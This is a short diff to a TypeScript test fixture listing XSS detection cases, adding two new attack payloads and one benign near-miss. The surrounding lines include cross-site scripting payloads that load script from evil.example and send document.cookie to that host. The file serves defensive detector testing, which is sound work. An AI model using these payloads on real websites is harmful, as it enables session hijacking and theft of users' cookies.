@@ -2,6 +2,8 @@ import type { RuleCases } from './rule-cases.ts';
 
 export const xssCases: RuleCases = {
   positives: [
+    '<mi xlink:href="data:x,<script>alert(1)</script>">',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
     '<script>alert(document.cookie)</script>',
     '<ScRiPt >alert(1)</sCrIpT>',
     '<script src=https://evil.example/x.js></script>',
@@ -47,6 +49,7 @@ export const xssCases: RuleCases = {
     "</textarea><body onload=new Image().src='http://evil.example/'+document.cookie>",
   ],
   nearMisses: [
+    '<pre><code>&lt;script&gt;let a = 1;&lt;/script&gt;</code></pre>',
     '<p>Hello <b>bold</b> and <i>italic</i></p>',
     '<a href="https://shop.example/a?b=1&amp;c=2">link</a>',
     '<img src="https://cdn.shop.example/a.png" alt="A chair">',
